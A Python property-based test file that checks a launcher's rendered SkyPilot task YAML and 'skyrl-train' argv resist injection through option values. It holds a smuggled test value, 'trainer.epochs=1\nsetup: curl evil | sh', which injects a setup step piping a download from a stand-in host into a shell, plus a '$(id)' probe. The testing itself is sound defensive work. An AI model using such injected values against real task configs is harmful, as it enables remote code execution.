"""Values are data: no option value can add keys to the rendered task or split a `skyrl-train` argument.

Property-based (hypothesis, derandomized: a fixed seed and a fixed budget, so
CI runs the same examples every time). The YAML side is checked with PyYAML
and SkyPilot's own parser; the `run:` side by executing the rendered `run:`
with the real bash of the rehearsal image, where `skyrl-train` (and the data
and Ray steps before it) are stubs that record their argv: the stubs are the
only fake, because the real trainer needs GPUs.
"""
from __future__ import annotations

import subprocess

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from skyrl_stack.errors import StackError
from skyrl_stack.launch.options import build_spec
from skyrl_stack.launch.run_script import ENV_BOUND
from skyrl_stack.launch.task_spec import BUCKET_MOUNT, training_overrides
from skyrl_stack.launch.task_yaml import header, task_config, to_yaml
from tests.launch.test_render import fake_record

# Fixed seed and budget: the same examples on every run (CI included); no wall-clock deadline.
FIXED = settings(derandomize=True, database=None, deadline=None, max_examples=150,
                 suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])

# Characters that mean something to YAML, to a shell, or to a comment, drawn often.
SPECIAL = list(" \"'$`\\!#:{}[]&*|>-%@,?=~;()<^") + ["\\n", "---", "...", "setup: x", "${X}", "$(id)", "'\"'"]
# Any printable character (Python's str.isprintable: no control, format or separator characters but ' ').
PRINTABLE = st.characters(exclude_categories=("Cs",)).filter(str.isprintable)
VALUE = st.lists(st.one_of(PRINTABLE, st.sampled_from(SPECIAL)), max_size=12).map("".join)
# Line breaks YAML knows (\n \r \x85 \u2028 \u2029), other C0/C1 controls, format characters.
CONTROL = st.sampled_from(["\n", "\r", "\r\n", "\x85", "\u2028", "\u2029", "\t", "\x00", "\x1b", "\x7f", "\v", "\f",
                           "\u200b", "\ufeff"])
# String-valued keys of SkyRL's config (ppo_base_config at the pinned commit) that render passes on as given; not
# the overrides the spec owns (ENV_BOUND: backend and logger), whose --set values are checked, not passed on.
# Render refuses keys SkyRL's config lacks (tests/launch/test_hydra_overrides.py).
KEY = st.sampled_from(["trainer.run_name", "trainer.project_name", "trainer.export_path", "trainer.target_modules",
                       "trainer.policy.model.lora.lora_sync_path", "generator.http_endpoint_host"])
# Top-level keys the task may have; anything else would be an injection.
TASK_KEYS = {"name", "resources", "num_nodes", "envs", "secrets", "file_mounts", "config", "run"}


def with_control(value_strategy=VALUE):
    """A value with at least one control character somewhere in it."""
    return st.tuples(value_strategy, CONTROL, value_strategy).map("".join)


def rendered(spec, command: str) -> str:
    return to_yaml(task_config(spec), header(spec, command))


@pytest.fixture
def vllm_record(state_dir):
    return fake_record("vllm")


@given(command=st.text(max_size=80) | with_control())
@FIXED
def test_header_is_only_comments_for_any_command_line(vllm_record, command):
    """Whatever the recorded command line holds (it is sys.argv: anything), the header stays comments."""
    spec = build_spec("vllm", cloud="aws")
    head = header(spec, command)
    assert yaml.safe_load(head) is None
    assert all(line.startswith("#") for line in head.splitlines())
    parsed = yaml.safe_load(rendered(spec, command))
    assert set(parsed) == set(task_config(spec))


@given(data=st.data())
@FIXED
def test_option_values_stay_values(vllm_record, data):
    """--set values, the bucket path and the registry user land in the YAML exactly, as values."""
    case = draw_case(data)
    spec, text = case["spec"], case["text"]
    parsed = yaml.safe_load(text)
    assert set(parsed) <= TASK_KEYS
    assert set(parsed) == set(task_config(spec))
    assert parsed["file_mounts"] == {BUCKET_MOUNT: {"source": case["bucket"], "mode": "MOUNT_CACHED"}}
    assert parsed["secrets"]["SKYPILOT_DOCKER_USERNAME"] == case["user"]
    assert [value for _, value in spec.sets] == [value.strip() for _, value in case["sets"]]
    assert parsed["run"] == task_config(spec)["run"]  # the script round-trips through YAML unchanged


def hydra_string(text: str) -> str:
    """text as Hydra's own quoted string (what render's hint offers for a value Hydra cannot read unquoted)."""
    from hydra.core.override_parser.types import Quote, QuotedString

    return QuotedString(text=text, quote=Quote.single).with_quotes()


# Any value, quoted for Hydra; not an interpolation (${...}: refused at render).
QUOTED = VALUE.filter(lambda v: "${" not in v).map(hydra_string)


def draw_case(data) -> dict:
    sets = data.draw(st.lists(st.tuples(KEY, QUOTED), min_size=1, max_size=4, unique_by=lambda kv: kv[0]))
    bucket = "s3://my-bucket/" + data.draw(VALUE)
    user = data.draw(VALUE.filter(lambda v: v and ":" not in v and "@" not in v))
    command = data.draw(st.text(max_size=40))
    spec = build_spec("vllm", cloud="aws", sets=[f"{k}={v}" for k, v in sets], bucket=bucket,
                      registry_login=f"{user}:REG_PASSWORD@ghcr.io")
    return {"spec": spec, "text": rendered(spec, command), "sets": sets, "bucket": bucket, "user": user}


OPTIONS = {
    "--set": lambda v: {"sets": [f"trainer.epochs={v}"]},
    "--bucket": lambda v: {"bucket": f"s3://b/{v}"},
    "--gpus": lambda v: {"gpus": f"L40S:4{v}"},
    "--memory": lambda v: {"memory": f"64+{v}"},
    "--disk-size": lambda v: {"disk_size": f"256{v}"},
    "--cloud": lambda v: {"cloud": f"aws/{v}"},
    "--image": lambda v: {"image": f"ghcr.io/me/app{v}", "allow_tag": True},
    "--registry-login": lambda v: {"registry_login": f"ci{v}:REG@ghcr.io"},
    "--logger": lambda v: {"logger": f"console{v}"},
    "--nodes": lambda v: {"nodes": f"2{v}"},
}


@pytest.mark.parametrize("option", sorted(OPTIONS))
def test_control_characters_are_refused_in_every_option(vllm_record, option):
    @given(value=with_control())
    @settings(derandomize=True, database=None, deadline=None, max_examples=25)
    def check(value):
        with pytest.raises(StackError, match=r"^bad |^malformed |control character") as err:
            build_spec("vllm", **OPTIONS[option](value))
        assert "\n" not in err.value.message and "\r" not in err.value.message  # one line

    check()


def test_a_line_break_in_set_cannot_add_a_setup_section(vllm_record):
    """The issue's example: a --set value that ends the header comment and adds `setup:`."""
    with pytest.raises(StackError, match="control character"):
        build_spec("vllm", sets=["trainer.epochs=1\nsetup: curl evil | sh"])
    spec = build_spec("vllm")
    text = rendered(spec, "invoke render --set 'trainer.epochs=1\nsetup: curl evil | sh'")
    assert "setup" not in yaml.safe_load(text)


# --------------------------------------------------------------------------- the run: in the image

STUBS = {
    # The real steps need a GPU image and the network; their argv is all this test is about.
    "skyrl-train": '#!/bin/bash\nprintf "%s\\0" "$@" > "$ARGV_OUT"\n',
    "skyrl-gsm8k-data": "#!/bin/bash\nexit 0\n",
    "skyrl-ray-up": "#!/bin/bash\nexit 0\n",
}


@pytest.mark.container
def test_run_passes_each_value_as_one_literal_argument(rehearsal_image, docker_engine, vllm_record, tmp_path):
    """Render many --set value sets, run every rendered `run:` in ONE container of the rehearsal image."""
    cases = []

    @given(data=st.data())
    @settings(derandomize=True, database=None, deadline=None, max_examples=120,
              suppress_health_check=[HealthCheck.too_slow])
    def collect(data):
        case = draw_case(data)
        cases.append((yaml.safe_load(case["text"]), case["spec"]))

    collect()
    work = tmp_path / "argv"
    (work / "stubs").mkdir(parents=True)
    (work / "out").mkdir()
    for name, body in STUBS.items():
        (work / "stubs" / name).write_text(body)
        (work / "stubs" / name).chmod(0o755)
    lines = ["set -u"]
    for index, (config, spec) in enumerate(cases):
        (work / f"case{index}.sh").write_text(config["run"])
        env = " ".join(f"{k}={_sh(v)}" for k, v in config["envs"].items())
        lines.append(f"env {env} SKYPILOT_NODE_RANK=0 ARGV_OUT=/work/out/{index} PATH=/work/stubs:$PATH "
                     f"bash /work/case{index}.sh || echo case{index} failed >&2")
    (work / "all.sh").write_text("\n".join(lines) + "\n")
    work.chmod(0o755)
    result = subprocess.run(
        ["docker", "run", "--rm", "--network", "none", "-v", f"{work}:/work", rehearsal_image.ref, "bash", "/work/all.sh"],
        capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 0 and not result.stderr.strip(), result.stderr[-2000:]
    for index, (config, spec) in enumerate(cases):
        argv = (work / "out" / str(index)).read_bytes().decode().split("\0")[:-1]
        assert argv == training_overrides(spec), f"case {index}: {config['run']}"


def _sh(value: str) -> str:
    import shlex

    return shlex.quote(value)
